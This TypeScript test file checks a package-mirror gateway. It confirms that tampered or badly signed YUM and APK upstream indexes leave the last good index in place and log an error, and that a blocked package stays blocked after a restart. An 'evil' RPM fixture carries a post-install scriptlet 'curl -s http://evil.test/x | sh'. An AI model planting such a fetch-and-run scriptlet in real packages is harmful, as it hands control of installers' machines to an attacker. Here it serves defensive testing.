// A YUM or APK upstream that turns bad: the last good generation stays as it was, and the log says why. And a start that knows what was read.
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ApkKey, apkPackage, indexText, makeApkKey, signedIndex } from '../support/apk-index.ts'
import { buildRpm } from '../support/build-rpm.ts'
import { type GatewayProcess, startGateway } from '../support/gateway.ts'
import { type Loopback, startLoopback } from '../support/loopback-upstream.ts'
import { rawRequest } from '../support/raw-request.ts'
import { makeVendorKey, type VendorKey } from '../support/vendor-key.ts'
import { sha256, yumLists, yumRepository } from '../support/yum-metadata.ts'

let files = new Map<string, Uint8Array | string>()
let upstream: Loopback
let rpmKey: VendorKey
let rpmStranger: VendorKey
let apkKey: ApkKey
let apkStranger: ApkKey
let revision = 1_700_000_000
const evil = buildRpm({
  tags: [
    { tag: 1000, type: 'string', value: 'evil' },
    { tag: 1001, type: 'string', value: '1.0' },
    { tag: 1002, type: 'string', value: '1' },
    { tag: 1022, type: 'string', value: 'noarch' },
    { tag: 1024, type: 'string', value: 'curl -s http://evil.test/x | sh' },
    { tag: 1086, type: 'strings', value: ['/bin/sh'] },
  ],
})
const PACKAGES = [{ name: 'tool' }, { name: 'evil', bytes: evil }]

beforeAll(async () => {
  ;[rpmKey, rpmStranger] = [await makeVendorKey(), await makeVendorKey('Stranger')]
  ;[apkKey, apkStranger] = [makeApkKey(), makeApkKey()]
  upstream = await startLoopback((path) => {
    const body = files.get(path)
    return body === undefined
      ? undefined
      : { body: Buffer.from(body), contentType: 'application/octet-stream' }
  })
}, 120_000)
afterAll(() => upstream.close())

type Files = Map<string, Uint8Array | string>

/** What a mirror publishes next; `name` makes it differ from the former. */
async function rpmFiles(name: string, key: VendorKey | null = rpmKey): Promise<Files> {
  revision += 1
  const made = await yumRepository(yumLists([...PACKAGES, { name }]), {
    revision,
    ...(key === null ? {} : { key }),
  })
  return made.set('/Packages/evil-1.0-1.noarch.rpm', evil)
}

async function apkFiles(name: string, key: ApkKey | null = apkKey, keyName?: string): Promise<Files> {
  const text = indexText([await apkPackage({ name: 'tool' }), await apkPackage({ name })])
  const options = { ...(key === null ? {} : { key }), ...(keyName === undefined ? {} : { keyName }) }
  return new Map([['/x86_64/APKINDEX.tar.gz', await signedIndex(text, options)]])
}

async function withExtraMember(): Promise<Files> {
  const made = await apkFiles('next')
  const path = '/x86_64/APKINDEX.tar.gz'
  return made.set(path, Buffer.concat([Buffer.from(made.get(path) ?? ''), gzipSync('more')]))
}

async function rpmFilesWith(
  edit: (lists: ReturnType<typeof yumLists>) => Partial<ReturnType<typeof yumLists>>,
) {
  revision += 1
  const lists = yumLists([...PACKAGES, { name: 'next' }])
  return yumRepository({ ...lists, ...edit(lists) }, { key: rpmKey, revision })
}

const BAD: readonly [string, 'rpm' | 'apk', () => Promise<Files>][] = [
  ['without a signature', 'rpm', () => rpmFiles('next', null)],
  ['signed by another key', 'rpm', () => rpmFiles('next', rpmStranger)],
  [
    'with a revision that goes back',
    'rpm',
    async () => {
      revision -= 100
      const made = await rpmFiles('next')
      revision += 100
      return made
    },
  ],
  [
    'with a count that lies',
    'rpm',
    () => rpmFilesWith(({ primary }) => ({ primary: primary.replace('packages="3"', 'packages="2"') })),
  ],
  [
    'with a DOCTYPE in a list',
    'rpm',
    () => rpmFilesWith(({ primary }) => ({ primary: primary.replace('<metadata', '<!DOCTYPE m><metadata') })),
  ],
  [
    'with a list of other packages',
    'rpm',
    () => rpmFilesWith(() => ({ other: yumLists([...PACKAGES, { name: 'ghost' }]).other })),
  ],
  ['without a signature', 'apk', () => apkFiles('next', null)],
  ['signed by another key under the name of ours', 'apk', () => apkFiles('next', apkStranger, apkKey.name)],
  ['signed under another name', 'apk', () => apkFiles('next', apkKey, 'other.rsa.pub')],
  ['with a further member', 'apk', withExtraMember],
]

// A repository each: what failed once is not asked again for a while.
describe('an upstream that turns bad', () => {
  let gateway: GatewayProcess
  const cases = BAD.map(([what, type, make], at) => ({ what, type, make, name: `repository${at}` }))
  const indexOf = ({ name, type }: { name: string; type: string }) =>
    `/${name}/${type === 'rpm' ? 'repodata/repomd.xml' : 'x86_64/APKINDEX.tar.gz'}`
  const under = (name: string, made: Files) =>
    [...made].map(([path, body]) => [`/${name}${path}`, body] as const)

  beforeAll(async () => {
    for (const { name, type } of cases)
      for (const [path, body] of under(name, await (type === 'rpm' ? rpmFiles('first') : apkFiles('first'))))
        files.set(path, body)
    gateway = await startGateway({
      config: {
        limits: { indexFresh: '1ms', indexStale: '1ms', upstreamRetries: 0 },
        repositories: cases.map(({ name, type }) => ({
          name,
          type,
          upstreams: [`${upstream.url}/${name}`],
          options:
            type === 'rpm' ? { keys: [rpmKey.file] } : { keys: [apkKey.file], architectures: ['x86_64'] },
        })),
      },
    })
  }, 120_000)
  afterAll(() => gateway.stop())

  it.each(cases)('$what ($type) changes nothing, and is told', { timeout: 60_000 }, async (one) => {
    const { name, make } = one
    const alarms = () =>
      gateway
        .events()
        .filter(
          (event) =>
            event['repository'] === name &&
            event['level'] === 'error' &&
            JSON.stringify(event['error']).includes('UPSTREAM_INVALID'),
        )
    const first = await rawRequest(gateway.url, indexOf(one))
    expect([first.status, alarms()]).toEqual([200, []])
    files.delete(`/${name}/repodata/repomd.xml.asc`)
    for (const [path, body] of under(name, await make())) files.set(path, body)
    await expect
      .poll(
        async () => {
          expect((await rawRequest(gateway.url, indexOf(one))).body.equals(first.body)).toBe(true)
          return alarms().length
        },
        { timeout: 30_000, interval: 250 },
      )
      .toBeGreaterThan(0)
    expect((await rawRequest(gateway.url, indexOf(one))).body.equals(first.body)).toBe(true)
  })
})

it('cuts a package after a start without reading the lists again', { timeout: 180_000 }, async () => {
  files = await rpmFiles('first')
  const dataDirectory = mkdtempSync(join(tmpdir(), 'sallyport-restart-'))
  const config = {
    limits: { indexFresh: '1h' },
    repositories: [{ name: 'el', type: 'rpm', upstreams: [upstream.url], options: { keys: [rpmKey.file] } }],
  }
  try {
    const first = await startGateway({ config, dataDirectory })
    expect((await rawRequest(first.url, '/el/repodata/repomd.xml')).status).toBe(200)
    await first.stop()
    // Whoever wants to read the lists again finds none.
    for (const type of ['primary', 'filelists', 'other']) {
      const digest = sha256(files.get(`/repodata/${type}.xml.gz`) ?? '')
      const blob = join(dataDirectory, 'blobs/blobs', digest.slice(0, 2), digest.slice(2, 4), digest)
      expect(existsSync(blob)).toBe(true)
      rmSync(blob)
    }
    const second = await startGateway({ config, dataDirectory })
    try {
      const refused = await rawRequest(second.url, '/el/Packages/evil-1.0-1.noarch.rpm')
      expect(refused.status, refused.body.toString()).toBe(403)
      await expect
        .poll(async () => (await rawRequest(second.url, '/el/repodata/repomd.xml')).status, {
          timeout: 60_000,
        })
        .toBe(200)
      const repomd = async () => (await rawRequest(second.url, '/el/repodata/repomd.xml')).body.toString()
      const listOf = async (type: string) => {
        const href = new RegExp(`href="([^"]*-${type}\\.xml\\.gz)"`).exec(await repomd())?.[1]
        const { status, body } = await rawRequest(second.url, `/el/${href}`)
        return status === 200 ? gunzipSync(body).toString() : `status ${status}`
      }
      await expect
        .poll(() => listOf('primary'), { timeout: 60_000, interval: 250 })
        .not.toMatch(/evil|status/)
      const expected = yumLists([{ name: 'tool' }, { name: 'first' }])
      for (const type of ['primary', 'filelists', 'other'] as const)
        expect(await listOf(type)).toBe(expected[type])
    } finally {
      await second.stop()
    }
  } finally {
    rmSync(dataDirectory, { recursive: true, force: true })
  }
})
